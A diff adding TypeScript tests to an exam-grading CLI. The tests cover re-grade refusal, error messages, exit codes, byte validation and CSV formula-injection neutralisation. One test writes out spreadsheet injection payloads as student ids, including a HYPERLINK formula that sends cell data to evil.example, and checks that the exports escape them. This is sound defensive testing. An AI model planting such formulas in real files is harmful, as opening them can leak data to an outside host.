@@ -102,3 +102,133 @@ test('grade the demo: marks.csv with the union of item columns, manual items emp
     rmSync(dir, { recursive: true, force: true });
   }
 });
+
+test('re-grading with an exam that drops a question with responses: a clear refusal, nothing changed', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'eqm-drop-'));
+  try {
+    const responses = join(ROOT, 'resources/demo/responses.csv');
+    let r = await cli(['grade', '--exam', DEMO, '--responses', responses, '--out', dir]);
+    assert.equal(r.code, 0, r.err);
+    const marks = readFileSync(join(dir, 'marks.csv'), 'utf8');
+    // The same exam with q2 dropped (or renamed: a renamed question is a dropped one).
+    for (const change of ['drop', 'rename']) {
+      const exam = JSON.parse(readFileSync(DEMO, 'utf8'));
+      if (change === 'drop') exam.questions = exam.questions.filter((q: { id: string }) => q.id !== 'q2');
+      else exam.questions.find((q: { id: string }) => q.id === 'q2').id = 'q2b';
+      const examPath = join(dir, `exam-${change}.json`);
+      writeFileSync(examPath, JSON.stringify(exam));
+      const q1Only = join(dir, 'q1.csv');
+      writeFileSync(q1Only, readFileSync(responses, 'utf8').replace(/\r\n/g, '\n').split('\n').filter((l, i) => i === 0 || !/^D\d+,q2,/.test(l)).join('\n'));
+      r = await cli(['grade', '--exam', examPath, '--responses', q1Only, '--out', dir]);
+      assert.equal(r.code, 1, change);
+      assert.match(r.err, /exam 'demo-physics' no longer has question 'q2' \(\d+ responses\), but the workspace .*workspace\.sqlite holds responses to it; nothing was changed\. Put the question back in the exam/);
+      assert.doesNotMatch(r.err, /\n\s+at /, 'no stack trace');
+    }
+    // Nothing was lost: the original exam grades again with no work and the same marks.
+    r = await cli(['grade', '--exam', DEMO, '--responses', responses, '--out', dir]);
+    assert.equal(r.code, 0, r.err);
+    assert.match(r.out, /this run: extracted 0, marked 0/);
+    assert.equal(readFileSync(join(dir, 'marks.csv'), 'utf8'), marks);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('exports neutralise formula-like student ids (OWASP), and equations.csv grades back onto the same students', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'eqm-inject-'));
+  try {
+    const csv = join(dir, 'r.csv');
+    const ids = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+441234', '-D02', '@SUM(A1:A9)', 'D05'];
+    writeFileSync(csv, `student_id,question_id,response\n${ids.map((id) => `"${id.replace(/"/g, '""')}",q1,H = u**2/(2*g)`).join('\n')}\n`);
+    let r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', dir]);
+    assert.equal(r.code, 0, r.err);
+    for (const name of ['marks.csv', 'equations.csv']) {
+      const lines = readFileSync(join(dir, name), 'utf8').trim().split('\n').slice(1);
+      assert.equal(lines.length, ids.length);
+      for (const l of lines) assert.doesNotMatch(l, /^"?[=+\-@\t\r]/, `${name}: ${l}`);
+      const text = readFileSync(join(dir, name), 'utf8');
+      assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",q1,`), name);
+      for (const id of ["'+441234,q1,", "'-D02,q1,", "'@SUM(A1:A9),q1,", '\nD05,q1,']) assert.ok(text.includes(id), `${name}: ${id}`);
+    }
+    // The per-student export (the app's) does the same.
+    const { Workspace } = await import('../../electron/engine/store/workspace.ts');
+    const { studentMarksCsv } = await import('../../electron/engine/io/csv/write.ts');
+    const { loadExamFile } = await import('../../electron/engine/io/exam.ts');
+    const ws = new Workspace(join(dir, 'workspace.sqlite'));
+    try {
+      const per = studentMarksCsv(ws, loadExamFile(DEMO).exam).trim().split('\n').slice(1);
+      assert.equal(per.length, ids.length);
+      for (const l of per) assert.doesNotMatch(l, /^"?[=+\-@\t\r]/, l);
+    } finally {
+      ws.close();
+    }
+    // equations.csv, given back as the equation lists, lands on the same five responses.
+    r = await cli(['grade', '--exam', DEMO, '--equations', join(dir, 'equations.csv'), '--out', dir]);
+    assert.equal(r.code, 0, r.err);
+    assert.match(r.out, /graded 5 responses/);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('an unexpected error prints one line "error: ..." and exits 1, the stack only with EQUIMARK_DEBUG', async () => {
+  const { unexpectedErrorText } = await import('../../electron/cli/main.ts');
+  // stdout gone (EPIPE): the error reaches the top level.
+  let err = '';
+  const io: Io = {
+    out: () => {
+      throw new Error('write EPIPE\nsecond line');
+    },
+    err: (s) => void (err += s),
+    isTTY: false,
+  };
+  assert.equal(await main(['help'], io), 1);
+  assert.equal(err, 'error: write EPIPE | second line (set EQUIMARK_DEBUG=1 for details)\n');
+  const boom = new TypeError('boom');
+  assert.match(unexpectedErrorText(boom, { EQUIMARK_DEBUG: '1' }), /^error: TypeError: boom\n\s+at /);
+  assert.equal(unexpectedErrorText('a string', {}), 'error: a string (set EQUIMARK_DEBUG=1 for details)\n');
+});
+
+test('engine errors in a grade result: counted, each named, a distinct exit status documented in the help', async () => {
+  const { engineErrorsOf, engineErrorLines, EXIT_ENGINE_ERRORS, EXIT_WAITING, USAGE } = await import('../../electron/cli/main.ts');
+  assert.equal(EXIT_ENGINE_ERRORS, 4);
+  assert.notEqual(EXIT_ENGINE_ERRORS, EXIT_WAITING);
+  assert.match(USAGE, /4 some responses hit an engine error/);
+  assert.match(USAGE, /EQUIMARK_DEBUG/);
+  // Read defensively: absent or malformed is none.
+  assert.deepEqual(engineErrorsOf({}), []);
+  assert.deepEqual(engineErrorsOf({ engineErrors: 'x' }), []);
+  assert.deepEqual(engineErrorsOf(undefined), []);
+  const list = engineErrorsOf({
+    engineErrors: [
+      { studentId: 'S1', questionId: 'q1', message: 'z3 crashed\nat depth 3' },
+      { studentId: 'S2', questionId: 'q2', message: 'timeout' },
+      { studentId: 'S3', questionId: 'q2', message: 'timeout' },
+    ],
+  });
+  assert.deepEqual(engineErrorLines(list), [
+    '3 responses hit an engine error (left ungraded; the rest is graded and written):',
+    '  S1/q1: z3 crashed | at depth 3',
+    '  S2/q2, S3/q2: timeout',
+    'Run the same command again to retry them; if they fail again, report the messages above.',
+  ]);
+  assert.deepEqual(engineErrorLines([]), []);
+});
+
+test('a responses CSV with invalid UTF-8 or a NUL byte: exit 1 naming file and line, nothing stored', async () => {
+  const dir = mkdtempSync(join(tmpdir(), 'eqm-bytes-'));
+  try {
+    const csv = join(dir, 'r.csv');
+    writeFileSync(csv, Buffer.concat([Buffer.from('student_id,question_id,response\r\nD01,q1,"H = 1\r\nok"\r\nD02,q1,caf'), Buffer.from([0xe9]), Buffer.from('\r\n')]));
+    let r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', join(dir, 'out')]);
+    assert.equal(r.code, 1);
+    assert.equal(r.err, `equimark: ${csv}, line 4: not valid UTF-8 text (bytes e9 0d 0a, byte 64 of the file): save the file as UTF-8 CSV (in Excel: "CSV UTF-8")\n`);
+    writeFileSync(csv, 'student_id,question_id,response\rD01,q1,"H = 1\rok"\rD02,q1,a\u0000\r');
+    r = await cli(['grade', '--exam', DEMO, '--responses', csv, '--out', join(dir, 'out')]);
+    assert.equal(r.code, 1);
+    assert.match(r.err, new RegExp(`^equimark: ${csv.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}, line 4: a NUL byte`));
+    assert.equal(existsSync(join(dir, 'out', 'workspace.sqlite')), false, 'nothing stored');
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
